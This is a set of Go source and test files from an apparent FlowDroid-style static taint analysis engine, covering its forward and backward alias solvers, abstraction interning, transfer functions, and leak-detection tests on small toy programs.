	for _, cc := range callers {
		e.applyReturn(cc, m, ep)
	}
}

func (e *engine) applyReturn(cc callerCtx, callee *ir.Method, ep exitRec) {
	mapped := e.returnFlow(cc.site, callee, ep.exit, ep.d2)
	for _, md := range mapped {
		md = e.maybeActivateAtCall(cc.site, md)
		for _, retSite := range e.icfg.SuccsOf(cc.site) {
			e.fwPropagate(cc.d1, retSite, md)
		}
		// A heap taint mapped back into the caller may have aliases
		// established before the call: spawn a new alias search there.
		if e.conf.EnableAliasing && md.AP != nil && len(md.AP.Fields) > 0 && !md.AP.IsStatic() {
			e.spawnAliasSearch(cc.site, cc.d1, md)
		}
	}
}

// maybeActivateAtCall activates an inactive taint when the call site can
// transitively execute its activation statement (activation statements
// represent call trees).
func (e *engine) maybeActivateAtCall(site ir.Stmt, d *Abstraction) *Abstraction {
	if !e.conf.EnableActivation || d == e.zero || d.Active || d.Activation == nil {
		return d
	}
	if d.Activation == site || e.canActivate(site, d.Activation) {
		return e.ai.activate(d, site)
	}
	return d
}

// canActivate memoizes the call-graph reachability query. The underlying
// ReachesTransitively walk is a pure read of the built call graph, so
// concurrent workers may recompute a missing entry redundantly; the
// result is identical and the last write wins.
func (e *engine) canActivate(site ir.Stmt, act ir.Stmt) bool {
	m := act.Method()
	k := actKey{site, m}
	e.actMu.RLock()
	v, ok := e.actCache[k]
	e.actMu.RUnlock()
	if ok {
		return v
	}
	v = e.icfg.Graph.ReachesTransitively(site, m)
	e.actMu.Lock()
	e.actCache[k] = v
	e.actMu.Unlock()
	return v
}

// spawnAliasSearch starts the backward alias solver for a freshly tainted
// heap location at statement n, under the same path-edge context d1
// (context injection, Algorithm 1 line 16). The alias copy is inactive
// with n as its activation statement.
func (e *engine) spawnAliasSearch(n ir.Stmt, d1 *Abstraction, t *Abstraction) {
	if e.aliasHist == nil {
		e.doSpawnAliasSearch(n, d1, t)
		return
	}
	t0 := time.Now()
	e.doSpawnAliasSearch(n, d1, t)
	e.aliasHist.Observe(time.Since(t0))
}

func (e *engine) doSpawnAliasSearch(n ir.Stmt, d1 *Abstraction, t *Abstraction) {
	if !e.conf.EnableAliasing || t.AP == nil || t.AP.IsStatic() {
		return
	}
	e.stats.aliasQueries.Add(1)
	var alias *Abstraction
	if !e.conf.EnableActivation {
		// Andromeda-style mode: aliases are active immediately
		// (flow-insensitive, cf. Listing 3).
		alias = e.ai.get(t.AP, true, nil, t.Source, t, n)
	} else if !t.Active {
		alias = t // already an inactive alias; keep its activation
	} else {
		alias = e.ai.deriveInactive(t, t.AP, n, n)
	}
	d1Inj := d1
	if !e.conf.InjectContext {
		// Ablation: naive spawning from the tautological context
		// (Figure 3's dotted edge), which loses the correlation between
		// the alias and the condition under which it was tainted.
		d1Inj = e.zero
	}
	for _, p := range e.icfg.PredsOf(n) {
		e.bwPropagate(d1Inj, p, alias)
	}
}

// --------------------------------------------------------------- backward

func (e *engine) processBackward(it item) {
	n, d2 := it.n, it.d2
	var outs []*Abstraction

	switch {
	case ir.IsCall(n):
		outs = e.bwCall(it)
	default:
		if a, ok := n.(*ir.AssignStmt); ok {
			outs = e.bwAssign(a, d2)
			// Algorithm 2, line 17: every fact at an assignment is
			// handed to the forward solver, which re-derives the
			// downstream aliases from this point.
			for _, out := range outs {
				e.fwPropagate(it.d1, n, out)
			}
		} else {
			outs = d2.self
		}
	}

	// At the method's first statement the backward solver hands over to
	// the forward solver and stops (it never returns into callers).
	if n.Index() == 0 {
		for _, out := range outs {
			e.fwPropagate(it.d1, n, out)
		}
		return
	}
	for _, p := range e.icfg.PredsOf(n) {
		for _, out := range outs {
			e.bwPropagate(it.d1, p, out)
		}
	}
}

// bwCall handles a call statement during the backward walk: facts rooted
// in the call's result were produced inside the callee (descend, do not
// pass up); facts rooted in arguments or the receiver may have aliases
// established inside the callee (descend and pass up); static-rooted
// facts descend and pass up; everything else passes up.
func (e *engine) bwCall(it item) []*Abstraction {
	n, d2 := it.n, it.d2
	call := ir.CallOf(n)
	result := ir.CallResult(n)

	if d2.AP == nil {
		return d2.self
	}

	for _, callee := range e.icfg.CalleesOf(n) {
		for _, pair := range e.bwCallFlow(call, result, callee, d2, n) {
			// Inject this caller context into the forward solver's
			// incoming set so the forward pass spawned at the callee's
			// header can return into the right caller only.
			d1Inj := it.d1
			if !e.conf.InjectContext {
				d1Inj = e.zero
			}
			e.registerIncoming(callee, pair.fact, n, d1Inj)
			e.bwPropagate(pair.fact, pair.at, pair.fact)
		}
	}

	// Pass-through upward: result-rooted facts are killed (the call
	// defines the result).
	if result != nil && d2.AP.Base == result {
		return nil
	}
	return d2.self
}

type bwSeed struct {
	fact *Abstraction
	at   ir.Stmt
}

// bwCallFlow maps a backward fact at a call into callee-exit seeds.
func (e *engine) bwCallFlow(call *ir.InvokeExpr, result *ir.Local, callee *ir.Method, d2 *Abstraction, at ir.Stmt) []bwSeed {
	var out []bwSeed
	exits := callee.ExitStmts()
	seedAll := func(a *Abstraction) {
		for _, ex := range exits {
			out = append(out, bwSeed{a, ex})
		}
	}
	ap := d2.AP
	switch {
	case ap.IsStatic():
		seedAll(d2)
	case result != nil && ap.Base == result:
		// Map the result back to each returned local.
		for _, ex := range exits {
			ret := ex.(*ir.ReturnStmt)
			if v, ok := ret.Value.(*ir.Local); ok {
				m := e.ai.derive(d2, e.in.rebase(ap, v), at)
				out = append(out, bwSeed{m, ex})
			}
		}
	default:
		if call.Base != nil && ap.Base == call.Base && callee.This != nil {
			seedAll(e.ai.derive(d2, e.in.rebase(ap, callee.This), at))
		}
		for i, arg := range call.Args {
			if l, ok := arg.(*ir.Local); ok && ap.Base == l && i < len(callee.Params) {
				seedAll(e.ai.derive(d2, e.in.rebase(ap, callee.Params[i]), at))
			}
		}
	}
	return out
}

// bwAssign computes the facts holding before an assignment from a fact
// holding after it (Algorithm 2: replace left-hand side by right-hand
// side). Locals are strongly updated backwards; heap locations are not.
func (e *engine) bwAssign(a *ir.AssignStmt, d2 *Abstraction) []*Abstraction {
	if d2.AP == nil {
		return d2.self
	}
	ap := d2.AP
	switch lhs := a.LHS.(type) {
	case *ir.Local:
		if ap.Base != lhs {
			return d2.self
		}
		// Rebase through the RHS; the binding of lhs starts here, so the
		// lhs-rooted fact does not survive above this statement.
		switch rhs := a.RHS.(type) {
		case *ir.Local:
			return e.ai.derive(d2, e.in.rebase(ap, rhs), a).self
		case *ir.Cast:
			if x, ok := rhs.X.(*ir.Local); ok {
				return e.ai.derive(d2, e.in.rebase(ap, x), a).self
			}
			return nil
		case *ir.FieldRef:
			return e.ai.derive(d2, e.appendField(rhs.Base, rhs.Field, ap.Fields), a).self
		case *ir.StaticFieldRef:
			return e.ai.derive(d2, e.in.appendStatic(rhs.Field, ap.Fields), a).self
		case *ir.ArrayRef:
			// The value came out of the array: treat the whole array as
			// the alias (array indices are not modeled).
			return e.ai.derive(d2, e.in.local(rhs.Base), a).self
		default:
			// new, newarray, constants, binops: the value originates
			// here; the alias chain ends.
			return nil
		}
	case *ir.FieldRef:
		if suffix, ok := stripFieldPrefix(ap, lhs.Base, lhs.Field); ok {
			if src, ok := a.RHS.(*ir.Local); ok {
				rebased := e.ai.derive(d2, e.in.local(src, suffix...), a)
				// No strong updates on fields: keep both.
				return []*Abstraction{d2, rebased}
			}
		}
		return d2.self
	case *ir.StaticFieldRef:
		if ap.StaticRoot == lhs.Field {
			if src, ok := a.RHS.(*ir.Local); ok {
				rebased := e.ai.derive(d2, e.in.local(src, ap.Fields...), a)
				return []*Abstraction{d2, rebased}
			}
		}
		return d2.self
	case *ir.ArrayRef:
		if ap.Base == lhs.Base {
			if src, ok := a.RHS.(*ir.Local); ok {
				rebased := e.ai.derive(d2, e.in.local(src), a)
				return []*Abstraction{d2, rebased}
			}
		}
		return d2.self
	}
	return d2.self
}

// stripFieldPrefix matches ap against base.field...: ap = base.field.F
// yields (F, true); whole-object taints (ap = base) are not stripped here
// because they do not originate from this store alone.
func stripFieldPrefix(ap *AccessPath, base *ir.Local, field *ir.Field) ([]*ir.Field, bool) {
	if ap.Base != base || len(ap.Fields) == 0 || ap.Fields[0] != field {
		return nil, false
	}
	return ap.Fields[1:], true
}
