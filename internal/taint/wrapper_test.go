package taint

import (
	"reflect"
	"testing"

	"flowdroid/internal/ir"
)

// hierarchy builds a small class hierarchy for rule-selection tests:
// Object <- Widget <- FancyWidget, plus an unrelated Loner.
func hierarchy(t *testing.T) *ir.Program {
	t.Helper()
	prog := ir.NewProgram()
	for _, c := range []*ir.Class{
		{Name: "java.lang.Object"},
		{Name: "Widget", Super: "java.lang.Object"},
		{Name: "FancyWidget", Super: "Widget"},
		{Name: "Loner", Super: "java.lang.Object"},
	} {
		if err := prog.AddClass(c); err != nil {
			t.Fatal(err)
		}
	}
	return prog
}

func invoke(kind ir.InvokeKind, refClass, baseClass, name string, nargs int) *ir.InvokeExpr {
	e := &ir.InvokeExpr{
		Kind: kind,
		Ref:  ir.MethodRef{Class: refClass, Name: name, NArgs: nargs},
	}
	if baseClass != "" {
		e.Base = &ir.Local{Name: "b", Type: ir.Ref(baseClass)}
	}
	return e
}

func classesOf(rules []WrapperRule) []string {
	var out []string
	for _, r := range rules {
		out = append(out, r.Class)
	}
	return out
}

// TestRulesForRefinesBaseType: the receiver class must be refined from the
// base local's declared type for every invoke kind that has a typed base,
// not just virtual dispatch. A special invoke through a FancyWidget-typed
// base whose ref names Widget must still pick the FancyWidget rule.
func TestRulesForRefinesBaseType(t *testing.T) {
	prog := hierarchy(t)
	w := NewWrapper()
	w.Add(WrapperRule{Class: "Widget", Name: "poke", NArgs: 0, From: SlotBase, To: []int{SlotReturn}})
	w.Add(WrapperRule{Class: "FancyWidget", Name: "poke", NArgs: 0, From: SlotBase, To: []int{SlotBase, SlotReturn}})

	for _, kind := range []ir.InvokeKind{ir.VirtualInvoke, ir.SpecialInvoke} {
		call := invoke(kind, "Widget", "FancyWidget", "poke", 0)
		got := classesOf(w.RulesFor(prog, call))
		if !reflect.DeepEqual(got, []string{"FancyWidget"}) {
			t.Errorf("%v invoke: rule classes = %v, want [FancyWidget]", kind, got)
		}
	}

	// A static invoke has no base: the ref class is all there is.
	call := invoke(ir.StaticInvoke, "Widget", "", "poke", 0)
	got := classesOf(w.RulesFor(prog, call))
	if !reflect.DeepEqual(got, []string{"Widget"}) {
		t.Errorf("static invoke: rule classes = %v, want [Widget]", got)
	}
}

// TestRulesForMostSpecificShadowing: a rule declared on a strict supertype
// must not fire alongside the subtype's own rule for the same method — the
// java.lang.Object fallback yields to the specific class.
func TestRulesForMostSpecificShadowing(t *testing.T) {
	prog := hierarchy(t)
	w := NewWrapper()
	w.Add(WrapperRule{Class: "java.lang.Object", Name: "describe", NArgs: 0, From: SlotBase, To: []int{SlotReturn}})
	w.Add(WrapperRule{Class: "Widget", Name: "describe", NArgs: 0, From: SlotBase, To: []int{SlotBase}})

	// Receiver Widget: the Object rule is shadowed.
	got := classesOf(w.RulesFor(prog, invoke(ir.VirtualInvoke, "Widget", "Widget", "describe", 0)))
	if !reflect.DeepEqual(got, []string{"Widget"}) {
		t.Errorf("Widget receiver: rule classes = %v, want [Widget]", got)
	}

	// Receiver FancyWidget: no exact match; Widget (more specific than
	// Object) still shadows the fallback.
	got = classesOf(w.RulesFor(prog, invoke(ir.VirtualInvoke, "FancyWidget", "FancyWidget", "describe", 0)))
	if !reflect.DeepEqual(got, []string{"Widget"}) {
		t.Errorf("FancyWidget receiver: rule classes = %v, want [Widget]", got)
	}

	// Receiver Loner: only the Object fallback applies.
	got = classesOf(w.RulesFor(prog, invoke(ir.VirtualInvoke, "Loner", "Loner", "describe", 0)))
	if !reflect.DeepEqual(got, []string{"java.lang.Object"}) {
		t.Errorf("Loner receiver: rule classes = %v, want [java.lang.Object]", got)
	}
}

// TestRulesForDeterministicOrder: the selected rule slice must not depend
// on Add registration order.
func TestRulesForDeterministicOrder(t *testing.T) {
	prog := hierarchy(t)
	rules := []WrapperRule{
		{Class: "Widget", Name: "mix", NArgs: 1, From: 0, To: []int{SlotBase}},
		{Class: "Widget", Name: "mix", NArgs: 1, From: SlotBase, To: []int{SlotReturn}},
		{Class: "Widget", Name: "mix", NArgs: 1, From: 0, To: []int{SlotReturn}},
	}
	fwd, rev := NewWrapper(), NewWrapper()
	for _, r := range rules {
		fwd.Add(r)
	}
	for i := len(rules) - 1; i >= 0; i-- {
		rev.Add(rules[i])
	}
	call := invoke(ir.VirtualInvoke, "Widget", "Widget", "mix", 1)
	a, b := fwd.RulesFor(prog, call), rev.RulesFor(prog, call)
	if !reflect.DeepEqual(a, b) {
		t.Errorf("rule order depends on registration order:\n%v\nvs\n%v", a, b)
	}
}
