package taint

import (
	"fmt"
	"sync"

	"flowdroid/internal/ir"
	"flowdroid/internal/sourcesink"
)

// SourceRecord remembers where a taint was born.
type SourceRecord struct {
	// Stmt is the statement that produced the taint: the source call, or
	// the entry of a callback whose parameter is sensitive.
	Stmt ir.Stmt
	// Source is the matching rule.
	Source sourcesink.Source
}

// Abstraction is the data-flow fact of both solvers: a tainted access
// path, its activation state, and provenance. Inactive abstractions are
// aliases of memory locations that have not been tainted yet; they only
// gain the ability to cause leaks after flowing over their activation
// statement (or over a call site whose callee subtree contains it).
//
// Abstractions are interned on (AP, active, activation, source); the
// predecessor link used for path reconstruction is deliberately excluded
// from the identity so the fact domain stays finite.
type Abstraction struct {
	AP     *AccessPath
	Active bool
	// Activation is the heap-write statement whose execution turns this
	// alias into a real taint; nil for active abstractions.
	Activation ir.Stmt
	// Source is the provenance of the taint.
	Source *SourceRecord

	// pred/predStmt record one way this fact was derived, for path
	// reconstruction. First derivation wins.
	pred     *Abstraction
	predStmt ir.Stmt

	// self is the singleton slice {a}, built once at intern time so the
	// flow functions' many pass-through returns share it instead of
	// allocating a fresh one-element slice per evaluation. Callers only
	// ever range over flow-function results, never mutate them; an append
	// to a full len-1 slice reallocates and so cannot corrupt it.
	self []*Abstraction
}

// String renders the abstraction for debugging and reports.
func (a *Abstraction) String() string {
	if a == nil || a.AP == nil {
		return "0"
	}
	state := ""
	if !a.Active {
		state = fmt.Sprintf(" (inactive until %v)", a.Activation)
	}
	return a.AP.String() + state
}

// absKey is the identity of an abstraction in the solvers' fact maps.
type absKey struct {
	ap     *AccessPath
	active bool
	act    ir.Stmt
	src    *SourceRecord
}

// absInterner deduplicates abstractions. It is safe for concurrent use:
// both solvers allocate facts through it from worker goroutines.
type absInterner struct {
	mu  sync.RWMutex
	abs map[absKey]*Abstraction
}

func newAbsInterner() *absInterner {
	return &absInterner{abs: make(map[absKey]*Abstraction)}
}

// get interns the abstraction with the given identity; pred/predStmt are
// recorded only on first creation (whichever racer inserts first wins,
// which is why path witnesses are schedule-dependent while the fact
// domain itself is not).
func (ai *absInterner) get(ap *AccessPath, active bool, act ir.Stmt, src *SourceRecord, pred *Abstraction, predStmt ir.Stmt) *Abstraction {
	k := absKey{ap, active, act, src}
	ai.mu.RLock()
	a, ok := ai.abs[k]
	ai.mu.RUnlock()
	if ok {
		return a
	}
	ai.mu.Lock()
	defer ai.mu.Unlock()
	if a, ok := ai.abs[k]; ok {
		return a
	}
	a = &Abstraction{AP: ap, Active: active, Activation: act, Source: src, pred: pred, predStmt: predStmt}
	a.self = []*Abstraction{a}
	ai.abs[k] = a
	return a
}

// size returns the number of distinct abstractions interned so far.
func (ai *absInterner) size() int {
	ai.mu.RLock()
	defer ai.mu.RUnlock()
	return len(ai.abs)
}

// derive interns a successor abstraction of parent with a new access path
// but the same activation state and source.
func (ai *absInterner) derive(parent *Abstraction, ap *AccessPath, at ir.Stmt) *Abstraction {
	return ai.get(ap, parent.Active, parent.Activation, parent.Source, parent, at)
}

// deriveInactive interns an inactive alias of parent with the given
// activation statement.
func (ai *absInterner) deriveInactive(parent *Abstraction, ap *AccessPath, act ir.Stmt, at ir.Stmt) *Abstraction {
	return ai.get(ap, false, act, parent.Source, parent, at)
}

// activate interns the active version of an inactive abstraction.
func (ai *absInterner) activate(a *Abstraction, at ir.Stmt) *Abstraction {
	if a.Active {
		return a
	}
	return ai.get(a.AP, true, nil, a.Source, a, at)
}

// Path reconstructs the derivation chain from the taint's source to this
// abstraction, as a list of statements (source first). It follows the
// predecessor links recorded during propagation.
func (a *Abstraction) Path() []ir.Stmt {
	var rev []ir.Stmt
	seen := make(map[*Abstraction]bool)
	for cur := a; cur != nil && !seen[cur]; cur = cur.pred {
		seen[cur] = true
		if cur.predStmt != nil {
			rev = append(rev, cur.predStmt)
		}
	}
	if a.Source != nil && a.Source.Stmt != nil {
		rev = append(rev, a.Source.Stmt)
	}
	// Reverse and deduplicate consecutive repeats.
	var out []ir.Stmt
	for i := len(rev) - 1; i >= 0; i-- {
		if len(out) == 0 || out[len(out)-1] != rev[i] {
			out = append(out, rev[i])
		}
	}
	return out
}
