package taint

import (
	"testing"
)

// --- static fields interprocedurally ----------------------------------------

const staticFlow = `
class G {
  static field cache: java.lang.String
}
class Main {
  static method put(v: java.lang.String): void {
    G.cache = v
  }
  static method get(): java.lang.String {
    r = G.cache
    return r
  }
  static method main(): void {
    s = Src.secret()
    Main.put(s)
    t = Main.get()
    Snk.leak(t)                    // leak via static
    return
  }
  static method cleanFirst(): void {
    t = Main.get()
    Snk.leak(t)                    // clean: read before any write
    s = Src.secret()
    Main.put(s)
    return
  }
}
`

func TestStaticFieldInterprocedural(t *testing.T) {
	r := analyze(t, staticFlow, DefaultConfig())
	leak := lineOfCall(staticFlow, "leak via static", 1)
	if !hasLeakAtLine(r, leak) {
		t.Errorf("missed static-field leak at line %d; got %v", leak, leakLines(r))
	}
}

// --- recursion with heap state ----------------------------------------------

const recursiveHeap = `
class Node {
  field next: Node
  field val: java.lang.String
  method init(): void {
    return
  }
}
class Main {
  static method build(n: int): Node {
    nd = new Node()
    if * goto leaf
    m = n - 1
    child = Main.build(m)
    nd.next = child
  leaf:
    return nd
  }
  static method poison(nd: Node): void {
    s = Src.secret()
    nd.val = s
    nx = nd.next
    if * goto stop
    Main.poison(nx)
  stop:
    return
  }
  static method main(): void {
    root = Main.build(3)
    Main.poison(root)
    n1 = root.next
    t = n1.val
    Snk.leak(t)                    // leak deep in the structure
    return
  }
}
`

func TestRecursiveHeapTermination(t *testing.T) {
	// Primarily a termination/soundness test: recursion over an unbounded
	// structure with bounded access paths must converge and find the leak.
	r := analyze(t, recursiveHeap, DefaultConfig())
	leak := lineOfCall(recursiveHeap, "leak deep", 1)
	if !hasLeakAtLine(r, leak) {
		t.Errorf("missed recursive-structure leak; got %v", leakLines(r))
	}
}

// --- access-path truncation -------------------------------------------------

const deepChain = `
class L {
  field n: L
  field v: java.lang.String
  method init(): void {
    return
  }
}
class Main {
  static method main(): void {
    a = new L()
    b = new L()
    c = new L()
    d = new L()
    e = new L()
    a.n = b
    b.n = c
    c.n = d
    d.n = e
    s = Src.secret()
    e.v = s
    x1 = a.n
    x2 = x1.n
    x3 = x2.n
    x4 = x3.n
    t = x4.v
    Snk.leak(t)                    // leak at depth five
    return
  }
}
`

func TestDeepAccessPathWithinLimit(t *testing.T) {
	r := analyze(t, deepChain, DefaultConfig()) // k = 5 covers depth 5
	leak := lineOfCall(deepChain, "leak at depth five", 1)
	if !hasLeakAtLine(r, leak) {
		t.Errorf("missed depth-5 leak with k=5; got %v", leakLines(r))
	}
}

func TestTruncationIsSoundNotPrecise(t *testing.T) {
	// With k=1 the taint e.v widens; the leak must still be found
	// (truncation over-approximates, never loses taints).
	conf := DefaultConfig()
	conf.APLength = 1
	r := analyze(t, deepChain, conf)
	leak := lineOfCall(deepChain, "leak at depth five", 1)
	if !hasLeakAtLine(r, leak) {
		t.Errorf("k=1 truncation lost the taint; got %v", leakLines(r))
	}
}

// --- MaxLeaks ----------------------------------------------------------------

const manyLeaks = `
class Main {
  static method main(): void {
    s = Src.secret()
    Snk.leak(s)
    Snk.leak(s)
    Snk.leak(s)
    Snk.leak(s)
    return
  }
}
`

func TestMaxLeaksCap(t *testing.T) {
	conf := DefaultConfig()
	conf.MaxLeaks = 2
	r := analyze(t, manyLeaks, conf)
	if len(r.Leaks) > 2 {
		t.Errorf("MaxLeaks=2 but %d recorded", len(r.Leaks))
	}
	full := analyze(t, manyLeaks, DefaultConfig())
	if len(full.DistinctSourceSinkPairs()) != 4 {
		t.Errorf("uncapped run should find 4 pairs, got %d", len(full.DistinctSourceSinkPairs()))
	}
}

// --- collections stored in fields (wrapper + aliasing interplay) -------------

const listInField = `
class Holder {
  field items: java.util.ArrayList
  method init(): void {
    l = new java.util.ArrayList()
    this.items = l
  }
}
class Main {
  static method main(): void {
    h = new Holder()
    s = Src.secret()
    l1 = h.items
    l1.add(s)
    l2 = h.items
    o = l2.get(0)
    local t: java.lang.String
    t = (java.lang.String) o
    Snk.leak(t)                    // leak through field-held collection
    return
  }
}
`

func TestCollectionInFieldAlias(t *testing.T) {
	r := analyze(t, listInField, DefaultConfig())
	leak := lineOfCall(listInField, "leak through field-held", 1)
	if !hasLeakAtLine(r, leak) {
		t.Errorf("missed leak through aliased collection; got %v", leakLines(r))
	}
}

// --- taints entering callees as fields ---------------------------------------

const calleeReads = `
class Box {
  field v: java.lang.String
  method init(): void {
    return
  }
}
class Main {
  static method drain(b: Box): void {
    t = b.v
    Snk.leak(t)                    // leak inside callee
  }
  static method main(): void {
    b = new Box()
    s = Src.secret()
    b.v = s
    Main.drain(b)
    return
  }
  static method cleanCall(): void {
    b = new Box()
    c = "fine"
    b.v = c
    Main.drain(b)
    return
  }
}
`

func TestFieldTaintIntoCallee(t *testing.T) {
	r := analyze(t, calleeReads, DefaultConfig())
	leak := lineOfCall(calleeReads, "leak inside callee", 1)
	if !hasLeakAtLine(r, leak) {
		t.Errorf("missed leak inside callee; got %v", leakLines(r))
	}
}

// --- arrays through calls ----------------------------------------------------

const arrayThroughCall = `
class Main {
  static method stash(a: java.lang.String[], v: java.lang.String): void {
    a[0] = v
  }
  static method main(): void {
    arr = newarray java.lang.String
    s = Src.secret()
    Main.stash(arr, s)
    t = arr[0]
    Snk.leak(t)                    // array filled by callee
    return
  }
}
`

func TestArrayTaintedInCallee(t *testing.T) {
	r := analyze(t, arrayThroughCall, DefaultConfig())
	leak := lineOfCall(arrayThroughCall, "array filled by callee", 1)
	if !hasLeakAtLine(r, leak) {
		t.Errorf("missed array-through-call leak; got %v", leakLines(r))
	}
}

// --- null/new kills ----------------------------------------------------------

const killFlow = `
class Data {
  field f: java.lang.String
  method init(): void {
    return
  }
}
class Main {
  static method main(): void {
    s = Src.secret()
    d = new Data()
    d.f = s
    d = new Data()
    t = d.f
    Snk.leak(t)                    // fresh object: clean
    u = s
    u = null
    v = "x" + u
    Snk.leak(v)                    // nulled local: clean
    return
  }
}
`

func TestNewAndNullKillTaints(t *testing.T) {
	r := analyze(t, killFlow, DefaultConfig())
	if hasLeakAtLine(r, lineOfCall(killFlow, "fresh object: clean", 1)) {
		t.Error("taint survived reallocation of the base local")
	}
	if hasLeakAtLine(r, lineOfCall(killFlow, "nulled local: clean", 1)) {
		t.Error("taint survived a null overwrite")
	}
}

// --- source value flowing into a sink via base object ------------------------

const sinkViaObjectArg = `
class Data {
  field f: java.lang.String
  method init(): void {
    return
  }
}
class Main {
  static method main(): void {
    d = new Data()
    s = Src.secret()
    d.f = s
    local o: java.lang.Object
    o = (java.lang.Object) d
    Snk.leakObj(o)                 // passing the container leaks its fields
    return
  }
}
`

func TestSinkLeaksContainedFields(t *testing.T) {
	r := analyze(t, sinkViaObjectArg, DefaultConfig())
	leak := lineOfCall(sinkViaObjectArg, "passing the container", 1)
	if !hasLeakAtLine(r, leak) {
		t.Errorf("object with tainted field passed to sink not reported; got %v", leakLines(r))
	}
}

// --- multiple sources, provenance kept apart ---------------------------------

const twoSources = `
class Main {
  static method main(): void {
    a = Src.secret()
    b = Src.secret()
    Snk.leak(a)
    Snk.leak(b)
    return
  }
}
`

func TestSourceProvenanceSeparated(t *testing.T) {
	r := analyze(t, twoSources, DefaultConfig())
	pairs := r.DistinctSourceSinkPairs()
	if len(pairs) != 2 {
		t.Fatalf("pairs = %d, want 2", len(pairs))
	}
	if pairs[0].Source().Stmt == pairs[1].Source().Stmt {
		t.Error("distinct source statements merged")
	}
}
