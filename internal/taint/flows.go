package taint

import (
	"flowdroid/internal/ir"
)

// appendField builds the access path for a store into base.field with the
// given value suffix, honoring the field-sensitivity setting: a
// field-insensitive engine taints the whole base object instead.
func (e *engine) appendField(base *ir.Local, f *ir.Field, suffix []*ir.Field) *AccessPath {
	if !e.conf.FieldSensitive {
		return e.in.local(base)
	}
	return e.in.appendField(base, f, suffix)
}

// normalFlow is the forward transfer function for non-call statements. It
// returns the facts holding after the statement and, separately, the
// newly created heap taints that must trigger the backward alias search.
func (e *engine) normalFlow(n ir.Stmt, d2 *Abstraction) (outs, triggers []*Abstraction) {
	if d2 == e.zero {
		return e.zero.self, nil
	}
	a, ok := n.(*ir.AssignStmt)
	if !ok {
		return d2.self, nil
	}
	ap := d2.AP

	// Pass-through with strong updates on locals: any assignment to a
	// local kills the taints rooted there ("assigning a new expression
	// to x erases all taints rooted at x", and likewise for copies —
	// the local now holds a different value). Heap locations are never
	// strongly updated.
	killed := false
	if lhs, isLocal := a.LHS.(*ir.Local); isLocal && e.conf.FlowSensitive && ap.Base == lhs && !ap.IsStatic() {
		killed = true
	}
	if !killed {
		outs = append(outs, d2)
	}

	// Gen: does the RHS evaluate to a tainted value under d2?
	suffix, tainted := e.rhsTaint(a.RHS, ap)
	if !tainted {
		return outs, nil
	}
	switch lhs := a.LHS.(type) {
	case *ir.Local:
		outs = append(outs, e.ai.derive(d2, e.in.local(lhs, suffix...), n))
	case *ir.FieldRef:
		na := e.ai.derive(d2, e.appendField(lhs.Base, lhs.Field, suffix), n)
		outs = append(outs, na)
		triggers = append(triggers, na)
	case *ir.ArrayRef:
		// Array writes taint the whole array (indices are not modeled —
		// the source of the ArrayAccess false positives in Table 1) —
		// unless the index-sensitive mode of the baselines is on and the
		// index is a compile-time constant.
		nap := e.in.local(lhs.Base)
		if e.conf.ArrayIndexSensitive {
			if c, ok := lhs.Index.(*ir.Const); ok && c.Kind != ir.StringConst && c.Kind != ir.NullConst {
				nap = e.in.appendField(lhs.Base, e.indexField(c.Int), suffix)
			}
		}
		na := e.ai.derive(d2, nap, n)
		outs = append(outs, na)
		triggers = append(triggers, na)
	case *ir.StaticFieldRef:
		outs = append(outs, e.ai.derive(d2, e.in.appendStatic(lhs.Field, suffix), n))
	}
	return outs, triggers
}

// rhsTaint determines whether evaluating the RHS yields a tainted value
// under the access path ap, and with which residual field suffix.
func (e *engine) rhsTaint(rhs ir.Value, ap *AccessPath) ([]*ir.Field, bool) {
	switch rhs := rhs.(type) {
	case *ir.Local:
		if ap.Base == rhs {
			return ap.Fields, true
		}
	case *ir.Cast:
		if x, ok := rhs.X.(*ir.Local); ok && ap.Base == x {
			return ap.Fields, true
		}
	case *ir.FieldRef:
		return loadSuffix(ap, rhs.Base, rhs.Field)
	case *ir.StaticFieldRef:
		return loadStaticSuffix(ap, rhs.Field)
	case *ir.ArrayRef:
		if ap.Base != rhs.Base {
			return nil, false
		}
		if e.conf.ArrayIndexSensitive {
			if c, ok := rhs.Index.(*ir.Const); ok && c.Kind != ir.StringConst && c.Kind != ir.NullConst {
				if len(ap.Fields) > 0 && ap.Fields[0].Class == e.idxClass {
					if ap.Fields[0] == e.indexField(c.Int) {
						return ap.Fields[1:], true
					}
					return nil, false // taint sits at a different index
				}
				return nil, true // whole-array taint covers every index
			}
			// Computed index: may read any element.
			return nil, true
		}
		// Reading any element of a tainted array yields a wholly
		// tainted value.
		return nil, true
	case *ir.Binop:
		if l, ok := rhs.L.(*ir.Local); ok && ap.Base == l {
			return nil, true
		}
		if r, ok := rhs.R.(*ir.Local); ok && ap.Base == r {
			return nil, true
		}
	}
	return nil, false
}

// callFlow maps a fact at a call site into the callee's entry context
// (actual-to-formal). Static-rooted taints flow in unchanged; the zero
// fact explores every callee.
func (e *engine) callFlow(call *ir.InvokeExpr, callee *ir.Method, d2 *Abstraction) []*Abstraction {
	if d2 == e.zero {
		return e.zero.self
	}
	ap := d2.AP
	if ap.IsStatic() {
		return d2.self
	}
	var out []*Abstraction
	if call.Base != nil && ap.Base == call.Base && callee.This != nil {
		out = append(out, e.ai.derive(d2, e.in.rebase(ap, callee.This), nil))
	}
	for i, arg := range call.Args {
		if l, ok := arg.(*ir.Local); ok && ap.Base == l && i < len(callee.Params) {
			out = append(out, e.ai.derive(d2, e.in.rebase(ap, callee.Params[i]), nil))
		}
	}
	return out
}

// returnFlow maps a fact at a callee exit back into the caller
// (formal-to-actual plus the return value). Parameter-rooted taints
// without fields map back only if the parameter is never reassigned in
// the callee (the local copy would not affect the caller's value).
func (e *engine) returnFlow(site ir.Stmt, callee *ir.Method, exit ir.Stmt, d2 *Abstraction) []*Abstraction {
	if d2 == e.zero {
		return nil
	}
	ap := d2.AP
	if ap.IsStatic() {
		return d2.self
	}
	call := ir.CallOf(site)
	var out []*Abstraction
	if callee.This != nil && ap.Base == callee.This && call.Base != nil {
		out = append(out, e.ai.derive(d2, e.in.rebase(ap, call.Base), site))
	}
	for i, p := range callee.Params {
		if ap.Base != p || i >= len(call.Args) {
			continue
		}
		if len(ap.Fields) == 0 && reassignsLocal(callee, p) {
			continue
		}
		if argLocal, ok := call.Args[i].(*ir.Local); ok {
			out = append(out, e.ai.derive(d2, e.in.rebase(ap, argLocal), site))
		}
	}
	if ret, ok := exit.(*ir.ReturnStmt); ok {
		if v, ok := ret.Value.(*ir.Local); ok && ap.Base == v {
			if result := ir.CallResult(site); result != nil {
				out = append(out, e.ai.derive(d2, e.in.rebase(ap, result), site))
			}
		}
	}
	return out
}

